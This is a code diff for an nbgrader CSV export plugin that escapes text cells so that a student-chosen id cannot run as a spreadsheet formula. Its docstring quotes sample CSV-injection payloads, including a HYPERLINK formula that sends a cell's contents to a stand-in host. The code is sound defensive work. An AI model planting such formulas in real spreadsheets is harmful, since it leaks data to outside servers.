@@ -3,14 +3,22 @@
 nbgrader's own ``CsvExportPlugin`` writes each value as it is, joined by commas. A student id is a
 folder name the student chose: ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(1+1)`` would run as a
 formula in Excel or LibreOffice (CSV injection), and a comma would shift the columns.
-:class:`SafeCsvExport` writes the same columns and rows through :mod:`csv` (quoted where needed) and
-escapes text cells the OWASP way: one that starts like a formula gets a leading ``'``, which
-spreadsheets show as text; numbers stay numbers. The course's ``nbgrader_config.py`` makes it the
-plugin of ``nbgrader export`` too.
+:class:`SafeCsvExport` writes the same columns and rows through :mod:`csv` and makes every text
+cell safe whatever separator the spreadsheet splits on (``,`` here, ``;`` in many locales, tab, ``|``):
+
+- every text cell is quoted (``csv.QUOTE_NONNUMERIC``); numbers stay numbers, unquoted;
+- OWASP's escape, applied at the start of the cell AND after each ``, ; TAB | CR LF`` inside it: where
+  what follows (after spaces and double quotes) starts with ``= + - @``, TAB, CR or LF, a ``'`` is
+  put in front. A spreadsheet that honours the quotes sees one cell starting with ``'`` or plain
+  text; one that splits on ``;`` (or tab, ``|``) and ignores them sees pieces that all start with
+  text or ``'``, never with a formula. ``eve;=1+1`` is written ``"eve;'=1+1"``.
+
+The course's ``nbgrader_config.py`` makes it the plugin of ``nbgrader export`` too.
 """
 from __future__ import annotations
 
 import csv
+import re
 from pathlib import Path
 
 from nbgrader.api import Gradebook, MissingEntry
@@ -20,17 +28,21 @@ __all__ = ["COLUMNS", "SafeCsvExport", "spreadsheet_cell", "export_csv"]
 
 COLUMNS = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
            "raw_score", "late_submission_penalty", "score", "max_score"]
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP: what makes a cell a formula
+FORMULA_START = "=+-@\t\r\n"  # OWASP: what a cell that a spreadsheet evaluates starts with
+SEPARATORS = ",;\t|\r\n"  # what some spreadsheet (some locale, some import dialog) splits cells on
+# The start of the text, or just after a separator, where what follows (spaces and double quotes
+# skipped) starts like a formula.
+_RISKY = re.compile(r"(^|[%s])(?=[ \"]*[%s])" % (re.escape(SEPARATORS), re.escape(FORMULA_START)))
 
 
 def spreadsheet_cell(value):
-    """``value`` as a cell no spreadsheet evaluates: text starting like a formula gets a ``'``."""
+    """``value`` as a cell no spreadsheet evaluates, however it splits: see the module's docstring."""
     if value is None:
         return ""
     if isinstance(value, (int, float)) and not isinstance(value, bool):
         return value
     text = str(value)
-    return "'" + text if text.startswith(FORMULA_START) else text
+    return _RISKY.sub(lambda m: m[1] + "'", text)
 
 
 class SafeCsvExport(ExportPlugin):
@@ -38,7 +50,7 @@ class SafeCsvExport(ExportPlugin):
 
     def export(self, gradebook: Gradebook) -> None:
         with open(self.to or "grades.csv", "w", newline="", encoding="utf-8") as file:
-            writer = csv.writer(file)
+            writer = csv.writer(file, quoting=csv.QUOTE_NONNUMERIC)  # numbers bare, all text quoted
             writer.writerow(COLUMNS)
             for row in self._rows(gradebook):
                 writer.writerow([spreadsheet_cell(row[column]) for column in COLUMNS])
